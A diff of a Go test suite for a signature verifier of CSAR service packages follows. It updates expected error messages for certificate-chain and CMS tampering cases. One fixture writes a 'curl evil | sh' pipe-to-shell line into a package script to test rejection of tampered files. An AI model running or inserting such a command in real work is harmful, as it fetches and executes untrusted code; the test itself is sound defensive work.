@@ -79,11 +79,7 @@ func verify(t *testing.T, source string, policy Policy) (*Verdict, error) {
 func TestGoodPackagesVerify(t *testing.T) {
 	ca := newPKI(t, "Good")
 	option1 := signedPackage(t, ca.credentials(), nil)
-	unsignedDir := t.TempDir()
-	for name, content := range testFiles() {
-		write(t, unsignedDir, name, content)
-	}
-	wrapped, err := WrapCSAR("demo.csar", zipDir(t, unsignedDir), ca.credentials())
+	wrapped, err := WrapCSAR("demo.csar", zipDir(t, unsignedPackage(t)), ca.credentials())
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -188,7 +184,9 @@ func TestRefusals(t *testing.T) {
 			write(t, dir, "Files/configure.sh", "#!/bin/sh\ncurl evil | sh\n")
 			return dir
 		}},
-		{name: "untrusted CA", want: `service.mf:20: certificate "CN=Other Vendor,O=Calaf Test" is signed by CA "CN=Other Root CA,O=Calaf Test", which is not a trust anchor (trusted: "CN=Calaf Test Root CA,O=Calaf Test" from the test)`,
+		{name: "untrusted CA", want: `service.mf:18: certificate "CN=Other Vendor,O=Calaf Test" is signed by CA "CN=Other Root CA,O=Calaf Test", which is not a trust anchor (trusted: "CN=Calaf Test Root CA,O=Calaf Test" from the test)`,
+			source: func(t *testing.T) string { return signedPackage(t, other.fullChain(), nil) }},
+		{name: "untrusted CA, its root not in the package", want: `service.mf:18: the chain of certificate "CN=Other Vendor,O=Calaf Test" is incomplete: "CN=Other Intermediate CA,O=Calaf Test" is issued by "CN=Other Root CA,O=Calaf Test", which is neither in the package nor a trust anchor`,
 			source: func(t *testing.T) string { return signedPackage(t, other.credentials(), nil) }},
 		{name: "self-signed signer", want: `certificate "CN=Other Root CA,O=Calaf Test" is self-signed and not a trust anchor`,
 			source: func(t *testing.T) string {
@@ -206,7 +204,7 @@ func TestRefusals(t *testing.T) {
 			source: func(t *testing.T) string { return signedPackage(t, with(serverAuth, ca.intermediate.cert), nil) }},
 		{name: "missing intermediate", want: `the chain of certificate "CN=Calaf Test Vendor,O=Calaf Test" is incomplete: "CN=Calaf Test Vendor,O=Calaf Test" is issued by "CN=Calaf Test Intermediate CA,O=Calaf Test", which is neither in the package nor a trust anchor`,
 			source: func(t *testing.T) string { return signedPackage(t, with(ca.vendor), nil) }},
-		{name: "signature over another manifest", want: "service.mf:20: the CMS signature does not sign the manifest: it signs content with digest", source: func(t *testing.T) string {
+		{name: "signature over another manifest", want: "service.mf:18: the CMS signature does not sign the manifest: it signs content with digest", source: func(t *testing.T) string {
 			other := signedPackage(t, good, func(files map[string]string) { files["Files/configure.sh"] = "#!/bin/sh\necho other\n" })
 			dir := signedPackage(t, good, nil)
 			block := read(t, other, "service.mf")
@@ -215,7 +213,7 @@ func TestRefusals(t *testing.T) {
 			write(t, dir, "service.mf", manifest[:strings.Index(manifest, "-----BEGIN CMS-----")]+block)
 			return dir
 		}},
-		{name: "truncated CMS", want: "service.mf:20: the CMS signature is truncated or malformed", source: func(t *testing.T) string {
+		{name: "truncated CMS", want: "service.mf:18: the CMS signature is truncated or malformed", source: func(t *testing.T) string {
 			dir := signedPackage(t, good, nil)
 			manifest := read(t, dir, "service.mf")
 			begin := strings.Index(manifest, "-----BEGIN CMS-----")
@@ -224,13 +222,13 @@ func TestRefusals(t *testing.T) {
 			write(t, dir, "service.mf", manifest[:begin]+string(truncated))
 			return dir
 		}},
-		{name: "CMS block cut short", want: "service.mf:20: the CMS block is not valid PEM", source: func(t *testing.T) string {
+		{name: "CMS block cut short", want: "service.mf:18: the CMS block is not valid PEM", source: func(t *testing.T) string {
 			dir := signedPackage(t, good, nil)
 			manifest := read(t, dir, "service.mf")
 			write(t, dir, "service.mf", manifest[:len(manifest)-60]+"\n-----END CMS-----\n")
 			return dir
 		}},
-		{name: "text after the CMS block", want: "service.mf:20: text after -----END CMS----- is not covered by the signature", source: func(t *testing.T) string {
+		{name: "text after the CMS block", want: "service.mf:18: text after -----END CMS----- is not covered by the signature", source: func(t *testing.T) string {
 			dir := signedPackage(t, good, nil)
 			write(t, dir, "service.mf", read(t, dir, "service.mf")+"\nSource: Files/extra.sh\n")
 			return dir
@@ -248,15 +246,8 @@ func TestRefusals(t *testing.T) {
 			parts["demo.cms"] = unzip(t, second)["demo.cms"]
 			return writeFile(t, "demo.zip", zipFiles(t, []string{"demo.csar", "demo.cms", "demo.cert"}, parts))
 		}},
-		{name: "unsigned package", want: "service.mf: the package is not signed: the manifest has no CMS signature (-----BEGIN CMS-----) and the package is not a SOL004 option 2 zip", source: func(t *testing.T) string {
-			files := testFiles()
-			files["service.mf"] = manifestOf(files)
-			dir := t.TempDir()
-			for name, content := range files {
-				write(t, dir, name, content)
-			}
-			return dir
-		}},
+		{name: "unsigned package", want: "service.mf: the package is not signed: the manifest has no CMS signature (-----BEGIN CMS-----) and the package is not a SOL004 option 2 zip",
+			source: unsignedPackage},
 		{name: "no anchors", want: `no trust anchors are configured, so certificate "CN=Calaf Test Vendor,O=Calaf Test" cannot be trusted`,
 			source: func(t *testing.T) string { return signedPackage(t, good, nil) },
 			policy: func(p Policy) Policy { p.Anchors = nil; return p }},
